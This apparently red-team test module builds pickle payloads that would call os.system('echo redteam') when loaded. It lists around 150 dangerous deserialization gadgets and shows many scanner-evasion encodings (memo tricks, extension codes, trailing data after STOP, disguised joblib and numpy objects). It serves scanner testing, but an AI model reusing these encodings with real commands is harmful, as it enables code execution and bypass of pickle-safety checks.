"""Opcodes and objects that would run something if anybody loaded them; here nobody does, and what they would run is an echo."""

import struct

COMMAND = "echo redteam"
# Callables that turn a pickle into a program, or fetch one. All are the standard library's or a framework's own.
GADGETS = [
    "os.system",
    "posix.system",
    "nt.system",
    "os.popen",
    "os.execv",
    "os.spawnl",
    "os.remove",
    "os.startfile",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.check_output",
    "subprocess.run",
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "builtins.getattr",
    "builtins.setattr",
    "builtins.__import__",
    "builtins.open",
    "builtins.breakpoint",
    "builtins.map",
    "builtins.type",
    "builtins.vars",
    "builtins.globals",
    "__builtin__.eval",
    "__builtin__.execfile",
    "__builtin__.apply",
    "runpy.run_path",
    "runpy._run_code",
    "pty.spawn",
    "platform.popen",
    "platform._syscmd_ver",
    "timeit.timeit",
    "timeit.main",
    "code.interact",
    "codeop.compile_command",
    "cProfile.run",
    "profile.run",
    "pdb.run",
    "bdb.Bdb",
    "trace.Trace",
    "doctest.debug_script",
    "importlib.import_module",
    "importlib.reload",
    "pkgutil.resolve_name",
    "operator.attrgetter",
    "operator.methodcaller",
    "operator.itemgetter",
    "functools.partial",
    "functools.reduce",
    "types.FunctionType",
    "types.CodeType",
    "types.MethodType",
    "marshal.loads",
    "pickle.loads",
    "_pickle.loads",
    "pickle.Unpickler",
    "shelve.open",
    "dbm.open",
    "ctypes.CDLL",
    "ctypes.string_at",
    "socket.create_connection",
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "http.client.HTTPSConnection",
    "smtplib.SMTP",
    "ftplib.FTP",
    "webbrowser.open",
    "asyncio.create_subprocess_shell",
    "multiprocessing.util.spawnv_passfds",
    "distutils.spawn.spawn",
    "ensurepip._run_pip",
    "pip.main",
    "venv.create",
    "uuid._get_command_stdout",
    "shutil.rmtree",
    "shutil.move",
    "pathlib.Path.write_text",
    "logging.config.fileConfig",
    "copyreg.add_extension",
    "sys.settrace",
    "signal.signal",
    "zipimport.zipimporter",
    "collections.namedtuple",
    "dataclasses.make_dataclass",
    "inspect.getattr_static",
    "linecache.getlines",
    "fileinput.input",
    "tempfile.NamedTemporaryFile",
    "sqlite3.connect",
    "imaplib.IMAP4_stream",
    "mailcap.findmatch",
    "idlelib.run.Executive",
    "lib2to3.pgen2.pgen.generate_grammar",
    "torch.load",
    "torch.hub.load",
    "torch.jit.load",
    "torch.ops.load_library",
    "torch.storage._load_from_bytes",
    "torch.serialization.load",
    "torch.utils.cpp_extension.load_inline",
    "torch._dynamo.guards.GuardBuilder.get",
    "numpy.load",
    "numpy.loadtxt",
    "numpy.f2py.crackfortran.myeval",
    "numpy.testing._private.utils.runstring",
    "numpy.core._ufunc_reconstruct",
    "numpy._core._ufunc_reconstruct",
    "numpy.distutils.exec_command.exec_command",
    "numpy.memmap",
    "joblib.load",
    "joblib.numpy_pickle.load",
    "pandas.read_pickle",
    "pandas.eval",
    "pandas.io.pickle.read_pickle",
    "sklearn.datasets.fetch_openml",
    "sklearn.utils.murmurhash",
    "scipy.stats._distn_infrastructure.rv_continuous",
    "scipy.io.loadmat",
    "dill._dill._create_function",
    "dill._dill._load_type",
    "dill.loads",
    "cloudpickle.cloudpickle._make_function",
    "cloudpickle.cloudpickle.subimport",
    "keras.models.load_model",
    "keras.utils.get_file",
    "tensorflow.io.read_file",
    "transformers.pipeline",
    "transformers.AutoModel.from_pretrained",
    "xgboost.core.Booster.load_model",
    "lightgbm.basic._load_lib",
    "jinja2.Template",
    "yaml.unsafe_load",
    "requests.get",
    "paramiko.SSHClient",
    "xmlrpc.client.ServerProxy",
    "random._os.system",
    "collections.abc.sys.modules",
]


def short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(text.encode())]) + text.encode()


def named(name: str) -> bytes:
    """The opcodes that import a dotted name in protocol 4."""
    module, _, last = name.rpartition(".")
    return short(module) + short(last) + b"\x93"


def calling(name: str, argument: str = COMMAND) -> bytes:
    """A pickle that would call one function with one text."""
    return b"\x80\x04" + named(name) + short(argument) + b"\x85R."


def binary(text: str) -> bytes:
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(text)) + text.encode()


LINE = COMMAND.encode()
# The same call in every way that the pickle machine knows.
FORMS = {
    "global": b"cos\nsystem\n(S'" + LINE + b"'\ntR.",
    "inst": b"(S'" + LINE + b"'\nios\nsystem\n.",
    "obj": b"\x80\x02(cos\nsystem\n" + binary(COMMAND) + b"o.",
    "newobj": b"\x80\x04" + named("os.system") + short(COMMAND) + b"\x85\x81.",
    "newobj-ex": b"\x80\x04" + named("os.system") + short(COMMAND) + b"\x85}\x92.",
    "memo": b"\x80\x04" + short("os") + b"\x940" + short("system") + b"\x940h\x00h\x01\x93" + short(COMMAND) + b"\x85R.",
    "long-memo": b"\x80\x04" + short("os") + b"r\xff\xff\0\0" + b"0j\xff\xff\0\0" + short("system") + b"\x93" + short(COMMAND) + b"\x85R.",
    "old-text": b"\x80\x04U\x02osU\x06system\x93" + short(COMMAND) + b"\x85R.",
    "frame": b"\x80\x04\x95" + struct.pack("<Q", len(calling("os.system")) - 2) + calling("os.system")[2:],
    "dup": b"\x80\x04" + named("os.system") + b"2" + short(COMMAND) + b"\x85R0.",
    "popped": b"\x80\x04" + named("os.system") + short(COMMAND) + b"\x85R0N.",
    "pop-mark": b"\x80\x04(" + named("os.system") + short(COMMAND) + b"\x85R1N.",
    "in-dict": b"\x80\x04}" + short("a") + named("os.system") + short(COMMAND) + b"\x85Rs.",
    "build-state": b"\x80\x04" + named("collections.OrderedDict") + b")R" + named("os.system") + short(COMMAND) + b"\x85Rb.",
    "extension": b"\x80\x02\x82\x01" + short(COMMAND) + b"\x85R.",
    "extension-4": b"\x80\x02\x84\x01\x00\x00\x00.",
    "escaped-name": b"\x80\x04V\\u006fs\nVsystem\n\x93" + short(COMMAND) + b"\x85R.",
    "made-name": b"\x80\x04" + short("os") + named("builtins.str") + short("system") + b"\x85R\x93" + short(COMMAND) + b"\x85R.",
    "made-callable": b"\x80\x04" + named("collections.OrderedDict") + b")R)R.",
    "after-stop": b"\x80\x04N." + calling("os.system"),
    "no-stop": calling("os.system")[:-1],
    "broken-tail": calling("os.system")[:-1] + b"\xff\xff",
    "protocol-0-header-5": b"\x80\x05" + calling("os.system")[2:],
    "no-header": calling("os.system")[2:],
    "changed-class": b"\x80\x04" + named("sklearn.pipeline.Pipeline") + b"}" + short("predict") + named("os.system") + b"sb.",
    "other-codec": b"\x80\x04" + named("_codecs.encode") + short("x") + short("zip") + b"\x86R.",
    "memory": b"\x80\x04" + named("builtins.bytearray") + b"\x8a\x06\0\0\0\0\0\x10\x85R.",
    "old-instance-memory": b"\x80\x04" + named("copyreg._reconstructor") + named("builtins.bytearray") + b"2J\xff\xff\xff\x7f\x87R.",
    "persistent": b"\x80\x04" + short("x") + b"Q.",
    "out-of-band": b"\x80\x05\x97.",
    "dotted": b"\x80\x04" + short("collections") + short("OrderedDict.fromkeys") + b"\x93.",
    "ballast": b"\x80\x04" + b"]0" * 20_000 + calling("os.system")[2:],
}
OBJECTS = {"|": "V8"}


def hidden_object_type() -> bytes:
    """An array of numpy whose type hides objects among numbers: numpy would follow addresses from the file."""
    inner = named("numpy.dtype") + short("O8") + b"\x89\x88\x87R"
    outer = named("numpy.dtype") + short("V8") + b"\x89\x88\x87R"
    names, fields = short("a") + b"\x85", b"}" + short("a") + inner + b"K\x00\x86s"
    outer += b"(K\x03" + short("|") + b"N" + names + fields + b"K\x08K\x01K\x00tb"
    array = named("numpy.core.multiarray._reconstruct") + named("numpy.ndarray") + b"K\x00\x85C\x01b\x87R"
    return b"\x80\x04" + array + b"(K\x01K\x01\x85" + outer + b"\x89C\x08AAAAAAAAtb."


def type_changed_later() -> bytes:
    """A type of numpy whose fields are exchanged after they were looked at."""
    plain = named("numpy.dtype") + short("i8") + b"\x89\x88\x87R"
    inner = named("numpy.dtype") + short("O8") + b"\x89\x88\x87R"
    fields = b"}\x94" + short("a") + plain + b"K\x00\x86s"
    outer = named("numpy.dtype") + short("V8") + b"\x89\x88\x87R(K\x03" + short("|") + b"N" + short("a") + b"\x85" + fields + b"K\x08K\x01K\x10tb"
    return b"\x80\x04" + outer + b"h\x00" + short("a") + inner + b"K\x00\x86s0."


def wrapper_in_disguise() -> bytes:
    """joblib's wrapper made by another class than its own, so that a careless reader does not skip what joblib skips."""
    wrapper = named("copyreg._reconstructor") + named("joblib.numpy_pickle.NumpyArrayWrapper") + named("builtins.object") + b"N\x87R"
    return b"\x80\x04" + wrapper + b"}b."
